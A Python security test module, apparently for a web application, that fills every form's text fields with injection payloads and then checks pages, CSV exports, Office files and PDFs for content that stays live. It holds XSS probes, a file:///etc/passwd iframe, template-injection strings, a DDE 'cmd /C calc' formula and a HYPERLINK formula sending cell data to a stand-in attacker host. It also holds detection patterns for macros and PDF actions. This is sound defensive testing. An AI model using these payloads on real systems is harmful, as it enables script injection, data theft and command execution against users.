"""Hostile text in every field, looked for in pages, PDF, DOCX, XLSX and CSV."""

import csv
import io
import re
import time
import zipfile
from typing import Final

from tests.attack.ground import EVIL, Ground, Visitor, errors_in
from tests.site.forms import PageForm, forms_of

TEXTS: Final = (
    '"><script>zq()</script><img src=x onerror=zq()>',
    f'=HYPERLINK("http://{EVIL}/"&A1,"zq")',
    f'[zq](javascript:zq()) ![zq](http://{EVIL}/zq.png) <iframe src="file:///etc/passwd">',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'-zq()-'{{ 7*7191 }}{% debug %}${7*7191}",
    "+zq|'x'!A1",
    "</textarea></title><svg/onload=zq()>",
    "\t=zq()",
)
_NUMBER: Final = re.compile(r"[-+£]?[\d,.]+%?|\d{4}(-\d\d){1,2}|\d{4}/\d\d")
_LIVE: Final = re.compile(
    r"<script>zq|<img src=x onerror|<svg/onload|<iframe src|javascript:zq\(\)\"|"
    rf"(?:src|data)=\"?(?:http://{EVIL}|file:)|url\(\"?(?:http|file):|50337481|50336|\b50337\b",
)
_OURS: Final = re.compile(r"[-+]?[\d.,]+%?")
_SKIPPED: Final = ("sign-in", "sign-out", "forgotten", "password", "-remove", "deactivate", "take")


def typed_everywhere(ground: Ground) -> int:
    """Sends every form that a lead officer or an administrator has, with hostile text in every field
    that takes text. Gives how many were taken."""
    taken = 0
    people = {"lead": ground.visitor("lead"), "admin": ground.visitor("site administrator")}
    for at, (name, page) in enumerate(ground.pages):
        if not page["see"] or not page["send"] or any(part in name for part in _SKIPPED):
            continue
        visitor = people["admin" if "administrator" in page["see"] else "lead"]
        came = visitor.get(page["near"] + page["query"])
        for form in forms_of(came.text) if came.status == 200 else ():
            if not form.action or form.action == page["near"]:
                taken += _type(visitor, page["near"] + page["query"], form, at)
    return taken


def _type(visitor: Visitor, address: str, form: PageForm, at: int) -> bool:
    standing = dict(form.fields)
    wanted = {
        name: TEXTS[(at + place) % len(TEXTS)]
        for place, (name, kind) in enumerate(sorted(form.typed.items()))
        if kind in {"text", "textarea", "search"} and not _NUMBER.fullmatch(standing.get(name, ""))
    }
    for _ in range(3):
        data = form.data(**wanted)
        data.pop("csrfmiddlewaretoken", None)
        answer = visitor.post(address, data)
        if answer.status != 422:
            return answer.status == 302
        refused = errors_in(answer.text)
        if not refused & wanted.keys():
            return False
        wanted = {name: text for name, text in wanted.items() if name not in refused}
    return False


def looked_for(ground: Ground) -> None:
    """Every page and file that may show it."""
    people = {"lead": ground.visitor("lead"), "admin": ground.visitor("site administrator")}
    for name, page in ground.pages:
        if not page["see"] or name == "sign-in":
            continue
        visitor = people["admin" if "administrator" in page["see"] else "lead"]
        address = page["near"] + page["query"]
        answer = visitor.get(address)
        # Files of papers are made by a worker, which stands beside the whole run alone.
        ends = time.monotonic() + (90 if ground.step == 1 else 0)
        while answer.status == 302 and "/files/" in answer.leads_to and time.monotonic() < ends:
            time.sleep(1)
            answer = visitor.get(address)
        if answer.status == 200:
            _look(ground, name, answer.headers.get("content-type", ""), answer.body)


def _look(ground: Ground, name: str, kind: str, body: bytes) -> None:
    if "html" in kind or "svg" in kind:
        if found := _LIVE.search(body.decode()):
            ground.found(f"{name}: {found[0]!r} is live in the page")
    elif "csv" in kind:
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            for cell in row:
                if cell[:1] in tuple("=+-@\t\r") and not _OURS.fullmatch(cell):
                    ground.found(f"{name}: the cell {cell[:40]!r} runs")
    elif body.startswith(b"PK"):
        _look_in_package(ground, name, body)
    elif body.startswith(b"%PDF"):
        _look_in_pdf(ground, name, body)


def _look_in_package(ground: Ground, name: str, body: bytes) -> None:
    """A workbook or a Word file: formulas, links, what is loaded from elsewhere, live parts."""
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        for part in package.namelist():
            if re.search(r"vba|macro|externalLink|activeX|embeddings", part):
                ground.found(f"{name}: has the part {part}")
            if not part.endswith((".xml", ".rels")):
                continue
            text = package.read(part).decode("utf-8", "replace")
            for formula in re.findall(r"<f[ >][^<]*|<instrText[^<]*|w:instr=\"[^\"]*", text):
                if re.search(rf"zq|{EVIL}|HYPERLINK\(|cmd|DDE|INCLUDE|WEBSERVICE", formula):
                    ground.found(f"{name}: {part} runs {formula[:60]!r}")
            if part.endswith(".rels"):
                for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text):
                    if not target.startswith(("http://", "https://", "mailto:")):
                        ground.found(f"{name}: links to {target[:60]}")
                if re.search(rf'relationships/(image|attachedTemplate|frame)"[^>]*{EVIL}', text):
                    ground.found(f"{name}: loads from {EVIL}")


def _look_in_pdf(ground: Ground, name: str, body: bytes) -> None:
    import pikepdf

    with pikepdf.open(io.BytesIO(body)) as opened:
        for thing in opened.objects:
            if not isinstance(thing, pikepdf.Dictionary):
                continue
            action = str(thing.get("/S", ""))
            address = str(thing.get("/URI", ""))
            if action in {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR"}:
                ground.found(f"{name}: does {action}")
            if address and not address.startswith(("http://", "https://", "mailto:")):
                ground.found(f"{name}: links to {address[:60]}")
            if str(thing.get("/Type", "")) == "/Filespec" and EVIL in str(thing.get("/F", "")):
                ground.found(f"{name}: takes a file from {EVIL}")
